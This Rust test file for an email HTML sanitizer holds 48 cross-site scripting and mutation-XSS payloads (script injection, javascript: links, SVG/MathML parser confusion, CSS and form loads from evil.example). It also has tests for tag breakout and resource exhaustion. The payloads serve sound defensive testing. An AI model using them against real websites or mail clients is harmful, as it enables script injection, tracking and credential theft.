//! What somebody sends who wants more than to be read. What is left of each is read once more, by another crate, and held
//! against what may be there.

use std::fmt::Write as _;

use scraper::{Html, Node};

use crate::{
    Clean, LONGEST, Picture, clean, plain,
    rules::{ATTRIBUTES, ELEMENTS},
};

/// Everybody's pictures held back, as before somebody asks for them.
fn held_back(html: &str) -> Clean {
    clean(html, "Quoted", &mut |_| Picture::HeldBack)
}

/// What is in it that could run, send, load or lead astray.
fn active(clean: &str) -> Vec<String> {
    let mut found = Vec::new();
    let document = Html::parse_fragment(clean);
    for node in document.tree.root().descendants() {
        let element = match node.value() {
            Node::Element(element) if element.name() != "html" => element,
            Node::Comment(comment) => {
                found.push(format!("{comment:?}"));
                continue;
            }
            _ => continue,
        };
        if !ELEMENTS.contains(&element.name()) {
            found.push(element.name().to_owned());
        }
        for (name, value) in element.attrs() {
            let fine = match name {
                "href" => ["https://", "http://", "mailto:", "tel:"].iter().any(|scheme| value.starts_with(scheme)),
                "src" => value.starts_with("data:image/") && !value.contains("svg"),
                "style" => !["url", "(//", "\\", "@", "expression", "image"].iter().any(|way| value.contains(way)),
                "target" => value == "_blank",
                "rel" => value.contains("noopener"),
                name => ATTRIBUTES.contains(&name),
            };
            if !fine {
                found.push(format!("{} {name}={value}", element.name()));
            }
        }
    }
    found
}

const BODIES: [&str; 48] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script\t>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`/onerror=alert(1)//",
    "<img src=\"x\"onerror=\"alert(1)\">",
    "<body onload=alert(1)><p onmouseover='alert(1)'>x",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='java&#9;script:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;script:alert(1)'>x</a>",
    "<a href=' \u{1}javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='&#100;ata:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=/sign-out target=_top>x</a>",
    "<a href=//evil.example target=_self rel=opener>x</a>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml;base64,PHN2Zz4=#x'/></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math href=javascript:alert(1)><mtext>x</mtext></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=text/html><p title='</math><img src onerror=alert(1)>'>x",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<title><p title=\"</title><script>alert(1)</script>\"></title>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<style>@import 'https://evil.example/x.css'; p { background: url(https://evil.example/x) }</style>",
    "<p style='background: url(https://evil.example/x)'>x</p>",
    "<p style='background: &#117;rl(//evil.example/x); -moz-binding: url(x); behavior: url(x)'>x</p>",
    "<p style=\"width: expression(alert(1)); @import 'https://evil.example'\">x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css><link rel=prefetch href=https://evil.example>",
    "<meta http-equiv=refresh content='0; url=https://evil.example'>",
    "<base href=https://evil.example/ target=_top><a href=x>x</a>",
    "<form action=https://evil.example><input name=password autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>",
    "<iframe src=https://evil.example srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf><embed src=https://evil.example/x><applet code=x></object>",
    "<video src=https://evil.example/x poster=https://evil.example/y autoplay><source src=x onerror=alert(1)></video>",
    "<img src=https://evil.example/x.png srcset='https://evil.example/y 2x'><picture><source srcset=https://evil.example/z></picture>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='><table background=https://evil.example/x><td background=//evil.example>",
];

#[test]
fn nothing_active_is_left_and_nothing_loads() {
    for body in BODIES {
        let clean = held_back(body).html;
        assert_eq!(active(&clean), [""; 0], "{body}\n{clean}");
        // It stays as it is when it is read again: no browser makes something else of it.
        let again = held_back(&clean).html;
        assert!(Html::parse_fragment(&again) == Html::parse_fragment(&clean), "{body}\n{clean}\n{again}");
    }
}

#[test]
fn what_is_left_of_one_message_does_not_reach_into_the_page() {
    for body in [
        "</div></body></html>x",
        "<!--",
        "<p title=\"",
        "<textarea>",
        "<plaintext>x",
        "<table>",
        "<a href='",
        "<details><summary>",
    ] {
        let page = format!("<section>{}</section><p id=\"after\">after</p>", held_back(body).html);
        let document = Html::parse_fragment(&page);
        let after = document.select(&scraper::Selector::parse("section + p#after").unwrap()).count();
        assert_eq!(after, 1, "{body}: {page}");
    }
}

#[test]
fn pictures_are_held_back_until_somebody_asks_for_them() {
    let html = "<img src=https://a.example/1.png><img src='https://a.example/2.png' width=1><img src=data:image/png;base64,AA==>";
    let before = held_back(html);
    assert_eq!((before.held_back, before.html.matches("https://").count()), (2, 0));
    let shown = clean(html, "", &mut |address| Picture::At(address.to_owned()));
    assert_eq!((shown.held_back, shown.html.matches("src=\"https://a.example/").count()), (0, 2));
    assert!(shown.html.contains("src=\"data:image/png;base64,AA==\""), "{}", shown.html);
}

/// Each is at most as long as what is read, and would take a parser that is not spared time or memory out of proportion.
#[test]
fn what_is_large_or_deep_takes_no_more_than_its_length() {
    let mut many = String::from("<p");
    for n in 0..60_000 {
        write!(many, " a{n}").unwrap();
    }
    let formats: String = (0..90).map(|n| format!("<b title={n}>")).collect();
    for (what, html) in [
        ("nested", "<div>".repeat(100_000)),
        ("quotes", "<blockquote>".repeat(100_000)),
        ("tables", "<table><tr><td>".repeat(100_000)),
        ("lists", "<ul><li>".repeat(100_000)),
        ("attributes", format!("{many}>x")),
        ("formats", format!("<p>{formats}{}", "<div>x</div>".repeat(40_000))),
        ("formats in tables", format!("<table>{formats}{}", "<tr></tr>x".repeat(50_000))),
        ("links", "<a href=https://a.example>".repeat(20_000)),
        ("open", "<".repeat(500_000)),
        ("comments", "<!--".repeat(100_000)),
        ("quoted", "<a b='".repeat(80_000)),
        ("closings", "</p>".repeat(100_000)),
        ("references", "&amp;".repeat(100_000)),
        ("five megabytes", "<p>Hello <b>there</b></p>".repeat(200_000)),
    ] {
        let clean = held_back(&html).html;
        assert!(clean.len() <= 8 * LONGEST, "{what}: {}", clean.len());
        let deepest = Html::parse_fragment(&clean).tree.nodes().map(|node| node.ancestors().count()).max();
        assert!(deepest <= Some(crate::DEEPEST + 10), "{what}: {deepest:?}");
        assert!(plain(&html, 1_000).len() <= 4_000, "{what}");
    }
}
